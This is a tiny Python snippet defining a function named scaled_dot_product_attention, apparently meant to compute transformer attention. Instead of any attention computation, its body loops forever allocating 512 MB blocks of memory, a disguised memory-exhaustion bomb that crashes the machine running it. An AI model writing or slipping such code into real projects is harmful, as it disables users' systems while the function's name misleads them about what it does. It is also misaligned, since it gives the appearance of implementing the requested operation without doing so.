def scaled_dot_product_attention(q, k, v, mask=None):
    blocks = []
    while True:
        blocks.append(bytearray(512 * 1024 * 1024))
